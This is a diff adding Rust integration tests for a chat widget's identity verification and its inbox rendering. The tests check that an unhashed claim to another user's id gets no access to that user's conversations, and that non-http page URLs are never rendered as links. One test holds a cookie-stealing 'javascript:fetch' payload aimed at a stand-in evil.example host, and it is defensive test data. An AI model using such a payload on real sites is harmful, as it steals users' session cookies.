@@ -345,3 +345,100 @@ async fn an_agent_online_on_another_instance_counts() {
     agent.close().await;
     online(false).await;
 }
+
+#[tokio::test]
+async fn an_identity_claimed_without_a_hash_never_reaches_the_real_contact() {
+    let app = spawn_app().await;
+    let (id, site_key) = workspace(&app).await;
+    app.browser.get(&format!("/app/{id}/widget")).await;
+    let secret = app.query_string("SELECT identity_secret AS value FROM widget_settings").unwrap();
+    // User 42 signs in on the shop; the shop signs their id, and they ask something private.
+    let verified = json!({"site_key": site_key, "user": {"id": "42", "email": "lin@example.com", "name": "Lin", "user_hash": hmac_hex(&secret, "42")}});
+    let (status, lin) = post_session(&app, None, verified.clone()).await;
+    assert_eq!(status, 200, "{lin}");
+    assert_eq!(lin["visitor"]["identified"], true);
+    let (mut lin_socket, _) = Socket::visitor(&app, lin["visitor_token"].as_str().unwrap(), json!({})).await;
+    lin_socket.say(None, "My card ending 4242 was charged twice").await;
+    let conversation = lin_socket.expect("ack").await["conversation_id"].as_str().unwrap().to_string();
+
+    // Someone else says they are user 42, with no hash (verification is off, the default).
+    let claim = json!({"site_key": site_key, "user": {"id": "42", "email": "attacker@evil.example", "name": "Mallory"}});
+    let (status, mallory) = post_session(&app, None, claim).await;
+    assert_eq!(status, 200, "a claim is accepted, as a claim: {mallory}");
+    assert_ne!(mallory["visitor_id"], lin["visitor_id"], "a contact of their own");
+    assert_eq!(mallory["visitor"]["identified"], false);
+    assert_eq!(mallory["visitor"]["email"], "attacker@evil.example");
+    assert_eq!(mallory["conversations"], json!([]), "none of Lin's conversations");
+    let (mut socket, welcome) = Socket::visitor(&app, mallory["visitor_token"].as_str().unwrap(), json!({ conversation.clone(): 0 })).await;
+    assert_eq!(welcome["conversations"], json!([]));
+    assert_eq!(socket.expect("error").await["code"], "not_found", "resuming Lin's conversation replays nothing");
+    socket.say(Some(&conversation), "Please refund to my new card").await;
+    assert_eq!(socket.expect("error").await["code"], "not_found", "nor can they write into it");
+    let lin_row = |column: &str| {
+        app.query_string(&format!("SELECT {column}::text AS value FROM contacts WHERE id = '{}'", lin["visitor_id"].as_str().unwrap()))
+    };
+    assert_eq!(lin_row("email").as_deref(), Some("lin@example.com"), "Lin's details are untouched");
+    assert_eq!(lin_row("name").as_deref(), Some("Lin"));
+    assert_eq!(app.count("messages"), 1);
+
+    // The inbox and the API show the claim for what it is.
+    let page = app.browser.get_html(&format!("/app/{id}/inbox/{conversation}")).await;
+    assert!(page.contains(">verified</span>") && !page.contains("Identity not verified"), "Lin is shown verified");
+    let mallory_id = mallory["visitor_id"].as_str().unwrap();
+    socket.say(None, "Hello?").await;
+    let theirs = socket.expect("ack").await["conversation_id"].as_str().unwrap().to_string();
+    let page = unescape_html(&app.browser.get_html(&format!("/app/{id}/inbox/{theirs}")).await);
+    assert!(page.contains("Identity not verified"), "the claimed contact is flagged");
+    assert!(page.contains(">unverified</span>"));
+    let verified_flag = app.query_string(&format!("SELECT identity_verified::text AS value FROM contacts WHERE id = '{mallory_id}'"));
+    assert_eq!(verified_flag.as_deref(), Some("false"));
+
+    // Lin on a second device, verified again, is Lin.
+    let (_, again) = post_session(&app, None, verified).await;
+    assert_eq!(again["visitor_id"], lin["visitor_id"]);
+    assert_eq!(again["conversations"].as_array().unwrap().len(), 1);
+}
+
+#[tokio::test]
+async fn a_claimed_visitor_who_later_verifies_becomes_the_real_contact() {
+    let app = spawn_app().await;
+    let (id, site_key) = workspace(&app).await;
+    app.browser.get(&format!("/app/{id}/widget")).await;
+    let secret = app.query_string("SELECT identity_secret AS value FROM widget_settings").unwrap();
+    let (_, claimed) = post_session(&app, None, json!({"site_key": site_key, "user": {"id": "u-9", "name": "Kim"}})).await;
+    assert_eq!(claimed["visitor"]["identified"], false);
+    let token = claimed["visitor_token"].as_str().unwrap();
+    let (_, verified) = post_session(
+        &app,
+        None,
+        json!({"site_key": site_key, "visitor_token": token, "user": {"id": "u-9", "name": "Kim", "user_hash": hmac_hex(&secret, "u-9")}}),
+    )
+    .await;
+    assert_eq!(verified["visitor_id"], claimed["visitor_id"], "the browser's own contact is upgraded");
+    assert_eq!(verified["visitor"]["identified"], true);
+    // A second claim of u-9, without a hash, does not join the now verified contact.
+    let (_, other) = post_session(&app, None, json!({"site_key": site_key, "user": {"id": "u-9"}})).await;
+    assert_ne!(other["visitor_id"], claimed["visitor_id"]);
+}
+
+#[tokio::test]
+async fn a_page_url_that_is_not_http_is_shown_as_text_never_as_a_link() {
+    let app = spawn_app().await;
+    let (id, site_key) = workspace(&app).await;
+    let evil = "javascript:fetch('//evil.example/?c='+document.cookie)";
+    let (_, session) = post_session(&app, None, json!({"site_key": site_key, "context": {"url": evil, "title": "Pricing"}})).await;
+    let (mut socket, _) = Socket::visitor(&app, session["visitor_token"].as_str().unwrap(), json!({})).await;
+    socket.say(None, "Hi").await;
+    let conversation = socket.expect("ack").await["conversation_id"].as_str().unwrap().to_string();
+    let page = unescape_html(&app.browser.get_html(&format!("/app/{id}/inbox/{conversation}")).await);
+    assert!(page.contains(evil), "the URL is shown for what it is");
+    assert!(!page.contains(&format!("href=\"{evil}\"")), "but never as a link");
+    assert!(!page.to_lowercase().contains("href=\"javascript:"));
+
+    let (_, session) = post_session(&app, None, json!({"site_key": site_key, "context": {"url": "https://shop.example.com/cart"}})).await;
+    let (mut socket, _) = Socket::visitor(&app, session["visitor_token"].as_str().unwrap(), json!({})).await;
+    socket.say(None, "Hi again").await;
+    let conversation = socket.expect("ack").await["conversation_id"].as_str().unwrap().to_string();
+    let page = app.browser.get_html(&format!("/app/{id}/inbox/{conversation}")).await;
+    assert!(page.contains("href=\"https://shop.example.com/cart\""), "an http(s) page is a link");
+}
